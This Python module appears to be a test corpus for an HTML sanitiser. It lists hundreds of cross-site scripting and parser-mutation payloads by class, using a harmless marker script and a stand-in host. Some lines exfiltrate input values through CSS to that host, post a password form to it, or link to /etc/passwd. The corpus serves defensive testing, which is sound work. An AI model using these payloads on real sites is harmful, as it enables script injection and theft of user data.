"""HTML made to harm, by class: what public sets for sanitisers hold, in our own words."""

from __future__ import annotations

BOOM = "window.ran=1"
FAR = "http://far.example"

SCRIPTS = [
    f"<script>{BOOM}</script>", f"<SCRIPT SRC={FAR}/x.js></SCRIPT>", f"<script/x>{BOOM}</script>",
    f"<scr<script>ipt>{BOOM}</scr</script>ipt>", f"<<script>{BOOM}//<</script>", f"<script\n>{BOOM}</script\t\n>",
    f"<script>{BOOM}", f"<script><!--<script>{BOOM}</script>-->{BOOM}</script>", f"<script\x00>{BOOM}</script>",
    f"<scr\x00ipt>{BOOM}</scr\x00ipt>", f"<\x00script>{BOOM}</script>", f"<xss><script>{BOOM}</script>",
    f"<noscript><p title='</noscript><img src=x onerror={BOOM}>'>", f"<script type=module>{BOOM}</script>",
    f"<a><script>{BOOM}</script></a>", f"</script><script>{BOOM}</script>", f"<title><script>{BOOM}</script></title>",
    f"<textarea><script>{BOOM}</script></textarea>", f"<script src='data:text/javascript,{BOOM}'></script>",
    f"<slot><script>{BOOM}</script></slot>", f"<script x='</script>'>{BOOM}</script>",
]  # fmt: skip

HANDLERS = [
    f"<img src=x onerror={BOOM}>", f"<img src=x OnErRoR={BOOM}>", f"<img src=x onerror\n={BOOM}>",
    f"<img/src=x/onerror={BOOM}>", f"<img\x0csrc=x\x0conerror={BOOM}>", f"<img src='x'onerror={BOOM}>",
    f"<img src=x alt='a' onerror=\"{BOOM}\" onerror='b'>", f"<body onload={BOOM}>", f"<body onpageshow={BOOM}>x",
    f"<p onmouseover={BOOM}>hover</p>", f"<div onclick={BOOM} tabindex=1 autofocus onfocus={BOOM}>x</div>",
    f"<input autofocus onfocus={BOOM}>", f"<details open ontoggle={BOOM}>x</details>", f"<marquee onstart={BOOM}>x</marquee>",
    f"<video><source onerror={BOOM}></video>", f"<audio src=x onerror={BOOM}></audio>", f"<video src=x onerror={BOOM}>",
    f"<p style='animation:x' onanimationstart={BOOM}>x</p>", f"<p onpointerrawupdate={BOOM}>x</p>",
    f"<p \x00onclick={BOOM}>x</p>", f"<p on\x00click={BOOM}>x</p>", f"<p =onclick={BOOM}>x</p>", f"<p x=`a` onclick={BOOM}>x</p>",
    f"<p title=\"a\"onclick={BOOM}>x</p>", f"<p title='a>b' onclick={BOOM}>x</p>", f"<a href=# onclick={BOOM}>x</a>",
    f"<table background=x onload={BOOM}><tr><td onclick={BOOM}>x</table>", f"<br onload={BOOM}>", f"<hr onload={BOOM}>",
    f"<p popover onbeforetoggle={BOOM}>x</p>", f"<xss onscrollend={BOOM} contenteditable>x</xss>",
]  # fmt: skip

LINKS = [
    f"<a href=javascript:{BOOM}>x</a>", f"<a href=JaVaScRiPt:{BOOM}>x</a>", f"<a href=' javascript:{BOOM}'>x</a>",
    f"<a href='\x01javascript:{BOOM}'>x</a>", f"<a href='java\nscript:{BOOM}'>x</a>", f"<a href='java\tscript:{BOOM}'>x</a>",
    f"<a href='java&#10;script:{BOOM}'>x</a>", f"<a href='&#106;avascript:{BOOM}'>x</a>",
    f"<a href='&#0000106&#0000097vascript:{BOOM}'>x</a>", f"<a href='&#x6A;avascript:{BOOM}'>x</a>",
    f"<a href='javascript&colon;{BOOM}'>x</a>", f"<a href='javascript&#58;{BOOM}'>x</a>", f"<a href='java&Tab;script:{BOOM}'>x</a>",
    f"<a href='java\x00script:{BOOM}'>x</a>", f"<a href='\u00a0javascript:{BOOM}'>x</a>", f"<a href='\u200bjavascript:{BOOM}'>x</a>",
    f"<a href='\ufeffjavascript:{BOOM}'>x</a>", f"<a href='javascript\u200d:{BOOM}'>x</a>",
    f"<a href='vbscript:{BOOM}'>x</a>", f"<a href='livescript:{BOOM}'>x</a>", f"<a href='view-source:javascript:{BOOM}'>x</a>",
    f"<a href='data:text/html,<script>{BOOM}</script>'>x</a>", "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='data:image/svg+xml,<svg onload=1>'>x</a>", "<a href='file:///etc/passwd'>x</a>", "<a href='blob:x'>x</a>",
    "<a href='//far.example/x'>x</a>", "<a href='/accounts/logout/'>x</a>", "<a href='?delete=1'>x</a>", "<a href='\\\\far\\share'>x</a>",
    f"<a href='http:javascript:{BOOM}'>x</a>", "<a href='https:/\\far.example'>x</a>", f"<a href='https://x.kr/\" onclick=\"{BOOM}'>x</a>",
    "<a href='https://x.kr' target=_self rel=opener ping=http://far.example download>x</a>",
    f"<a href=https://x.kr xlink:href=javascript:{BOOM}>x</a>", f"<a href=https://x.kr href=javascript:{BOOM}>x</a>",
    f"<area href=javascript:{BOOM}><map name=m><area href=javascript:{BOOM}></map>",
    "<a href='ms-word:ofe|u|http://far.example'>x</a>", "<a href='intent://far#Intent;scheme=http;end'>x</a>",
]  # fmt: skip

IMAGES = [
    f"<img src={FAR}/p.png>", f"<img src='{FAR}/p.png' srcset='{FAR}/q.png 2x' sizes=1>", f"<img srcset='{FAR}/q.png 2x'>",
    f"<img lowsrc={FAR}/p.png dynsrc={FAR}/p.png longdesc={FAR}/p usemap=#m>", f"<image src={FAR}/p.png>",
    f"<picture><source srcset={FAR}/p.png><img src={FAR}/p.png></picture>", "<img src=//far.example/p.png>",
    f"<img src=javascript:{BOOM}>", "<img src='data:image/svg+xml;base64,PHN2Zz4='>", "<img src='data:image/svg+xml,<svg onload=1>'>",
    "<img src='data:text/html;base64,AAAA'>", "<img src='data:image/png,x'>", "<img src='data:image/png;base64,AA\"onerror=1'>",
    f"<img src='ftp://far.example/x'><img src=\\\\far\\x.png><img src='{FAR}\\x.png'>", "<img src=cid:none>", "<img src='cid:\"><script>'>",
    f"<img data-remote-src=javascript:{BOOM}>", f"<img data-remote-src='{FAR}/\" onerror=\"{BOOM}'>", "<img data-attachment=7>",
    f"<img data-attachment='0\" onerror=\"{BOOM}'>", f"<img title='<img src={FAR} a=' alt=' data-remote-src=&quot;{FAR}'>",
    f"<table background={FAR}/p.png><td background={FAR}/p.png>x", f"<body background={FAR}/p.png>x", f"<input type=image src={FAR}/p.png>",
    f"<link rel=prefetch href={FAR}><link rel=dns-prefetch href={FAR}>", f"<video poster={FAR}/p.png src={FAR}/v></video>",
]  # fmt: skip

STYLES = [
    f"<style>@import '{FAR}/x.css';</style>x", f"<style>input[value^=a]{{background:url({FAR}/a)}}</style>", "<style>p{}</style",
    f"<link rel=stylesheet href={FAR}/x.css>", f"<p style='background:url({FAR}/x)'>x</p>", f"<p style='background-image:u\\72l({FAR})'>x</p>",
    f"<p style='background:/**/url({FAR}/x)'>x</p>", f"<p style=\"background:url('{FAR}/x')\">x</p>", f"<p style='list-style:url({FAR})'>x</p>",
    f"<p style='color:red;background:image-set(&quot;{FAR}&quot; 1x)'>x</p>", f"<p style='background:image({FAR})'>x</p>",
    f"<p style='width:expression({BOOM})'>x</p>", f"<p style='width:exp/**/ression({BOOM})'>x</p>", f"<p style='width:e\\xpression({BOOM})'>x</p>",
    f"<p style='behavior:url({FAR}/x.htc)'>x</p>", f"<p style='-moz-binding:url({FAR}/x#x)'>x</p>", "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>x</p>",
    "<p style='color:red;}*{background:red'>x</p>", "<p style='color:red</style><script>'>x</p>", "<p style='--x:url(http://far.example);color:var(--x)'>x</p>",
    "<p style='font-family:\"a;background:url(http://far.example)\"'>x</p>", "<p style='content:attr(title)'>x</p>",
    "<p style='cursor:url(http://far.example/c),auto'>x</p>", "<p style='width:calc(1px + env(x))'>x</p>", "<p style='filter:url(#x)'>x</p>",
    "<p style='color:\nurl\n(http://far.example)'>x</p>", "<p style='background:URL(http://far.example)'>x</p>",
    "<p style='src:url(http://far.example);@font-face{}'>x</p>", "<p style='color&#58;red;background&#58;url(http://far.example)'>x</p>",
    "<p style='background:\uff55rl(http://far.example)'>x</p>", "<p style='margin:-9999px;text-indent:-9999px;z-index:9'>x</p>",
    "<p style='display:none;visibility:hidden;opacity:0'>x</p>", "<div class=modal id=csrf name=token>x</div>", "<font style='font:1px/url(http://far.example)'>x</font>",
    "<p style='color:red!ie;background:rgb(1,2,3)url(http://far.example)'>x</p>", "<p style='background:rgb(url(http://far.example))'>x</p>",
]  # fmt: skip

FOREIGN = [
    f"<svg onload={BOOM}>", f"<svg><script>{BOOM}</script></svg>", f"<svg><a xlink:href=javascript:{BOOM}><text>x</text></a></svg>",
    f"<svg><animate onbegin={BOOM} attributeName=x></svg>", f"<svg><set attributeName=href to=javascript:{BOOM}></svg>",
    f"<svg><foreignObject><img src=x onerror={BOOM}></foreignObject></svg>", f"<svg><use href='{FAR}/x.svg#x'></svg>",
    f"<svg><image href={FAR}/p.png></svg>", f"<svg><style><img src=x onerror={BOOM}></style></svg>", f"<svg/onload={BOOM}//",
    f"<svg><title><style><img src=x onerror={BOOM}></style></title></svg>", f"<svg></p><style><a title='</style><img src=x onerror={BOOM}>'>",
    f"<math><mi xlink:href=javascript:{BOOM}>x</mi></math>", f"<math href=javascript:{BOOM}>x</math>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={BOOM}></annotation-xml></math>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={BOOM}&gt;'>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={BOOM}>", f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={BOOM}>",
    f"<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title='</style><img src onerror={BOOM}>'></style></h1>",
    f"<!-- more --><svg><![CDATA[><img src=x onerror={BOOM}>]]></svg>", f"<svg><desc><noscript><img src=x onerror={BOOM}></noscript></desc></svg>",
    f"<math><style><!--</style><img src=x onerror={BOOM}>--></style></math>", f"<svg><p><style><!--</style><img src=x onerror={BOOM}>-->",
]  # fmt: skip

MUTATIONS = [
    f"<noscript><style></noscript><img src=x onerror={BOOM}></style>", f"<p><noembed><p title='</noembed><img src=x onerror={BOOM}>'>",
    f"<xmp><p title='</xmp><img src=x onerror={BOOM}>'>", f"<iframe><p title='</iframe><img src=x onerror={BOOM}>'>", f"<noframes><p title='</noframes><img src=x onerror={BOOM}>'>",
    f"<title><p title='</title><img src=x onerror={BOOM}>'>", f"<textarea><p title='</textarea><img src=x onerror={BOOM}>'>", f"<plaintext><img src=x onerror={BOOM}>",
    f"<template><script>{BOOM}</script></template>", f"<template><p title='</template><img src=x onerror={BOOM}>'>", f"<select><style></select><img src=x onerror={BOOM}></style>",
    f"<select><template><img src=x onerror={BOOM}></template></select>", f"<listing>&lt;img src=x onerror={BOOM}&gt;</listing>", f"<pre>\n\n<img src=x onerror={BOOM}></pre>",
    f"<table><script>{BOOM}</script><tr><td>x</table>", f"<table><a href=javascript:{BOOM}>x<tr><td></table>", f"<table><tr><style></table><img src=x onerror={BOOM}>",
    f"<a><table><td><a href=javascript:{BOOM}>x", f"<p>&lt;img src=x onerror={BOOM}&gt;</p>", f"&amp;lt;script&amp;gt;{BOOM}&amp;lt;/script&amp;gt;", f"<!--><img src=x onerror={BOOM}>-->",
    f"<!---><img src=x onerror={BOOM}>-->", f"<!--a--!><img src=x onerror={BOOM}>-->", f"<!-- --><img src=x onerror={BOOM}>", f"<![CDATA[<img src=x onerror={BOOM}>]]>",
    f"<?xml version='1.0'?><img src=x onerror={BOOM}>", f"<!DOCTYPE x [<!ENTITY a '<img src=x onerror={BOOM}>'>]>&a;", f"<!--[if gte mso 9]><script>{BOOM}</script><![endif]-->",
    f"<![if !mso]><img src=x onerror={BOOM}><![endif]>", f"</p title='><img src=x onerror={BOOM}>'>", f"<b <script>{BOOM}</script>>x", f"<b/<script>{BOOM}</script>",
    f"<img title=\"`><script>{BOOM}</script>\">", f"<img alt=``onerror={BOOM} src=x>", f"<p title='&quot;><img src=x onerror={BOOM}>'>x</p>", f"<p title=\"&lt;/p&gt;&lt;script&gt;{BOOM}\">x</p>",
    f"\u003cscript\u003e{BOOM}\u003c/script\u003e", f"\uff1cscript\uff1e{BOOM}\uff1c/script\uff1e", f"+ADw-script+AD4-{BOOM}+ADw-/script+AD4-", f"<ſcript>{BOOM}</ſcript>", f"<K onclick={BOOM}>x</K>",
    f"<img src=x onerror={BOOM}//", f"<img src=\"x onerror={BOOM}", "<a title='", "<", "</", "<!", "<!-", "<!--", "&", "&#", "&#x", "&#x110000;&#xD800;&#0;&#99999999999;", "a\ud800b",
    "<" * 50 + "p", "<p " + "a" * 5_000 + ">x", "<p " + " ".join(f"a{number}=1" for number in range(300)) + f" onclick={BOOM}>x",
]  # fmt: skip

PAGES = [
    f"<iframe src=javascript:{BOOM}></iframe>", f"<iframe srcdoc='<script>{BOOM}</script>'></iframe>", f"<frameset><frame src=javascript:{BOOM}></frameset>",
    f"<object data=javascript:{BOOM}></object>", f"<object data={FAR}/x.swf><param name=x value=y></object>", f"<embed src={FAR}/x.swf>", f"<applet code=x archive={FAR}/x.jar></applet>",
    f"<meta http-equiv=refresh content='0;url=javascript:{BOOM}'>", "<meta http-equiv=Set-Cookie content=a=b>", "<meta charset=utf-7>", f"<base href={FAR}/><a href=x>y</a>",
    f"<form action={FAR}><input name=password><button>log in</button></form>", f"<button form=f formaction=javascript:{BOOM}>x</button>", "<isindex prompt=x>", "<keygen name=x>",
    f"<form id=f><input name=attributes><input name=parentNode></form><button formaction={FAR}>x", "<dialog open>x</dialog>", f"<portal src={FAR}></portal>", f"<fencedframe src={FAR}></fencedframe>",
    f"<bgsound src={FAR}/x.mid>", f"<layer src={FAR}></layer>", "<xml id=x><a><b>&lt;script&gt;</b></a></xml>", "<img name=cookie><img id=body>", "<a id=location name=location href=https://x.kr>x</a>",
    "<p is=x-p contenteditable dropzone=copy accesskey=a>x</p>", f"<link rel=import href={FAR}>", "<script type=importmap>{}</script>", f"<html manifest={FAR}><head profile={FAR}></head><body link=red>x",
]  # fmt: skip

PAYLOADS = {
    f"{name} {number}": payload
    for name, payloads in (
        ("script", SCRIPTS), ("handler", HANDLERS), ("link", LINKS), ("image", IMAGES), ("style", STYLES),
        ("foreign", FOREIGN), ("mutation", MUTATIONS), ("page", PAGES),
    )
    for number, payload in enumerate(payloads)
}  # fmt: skip
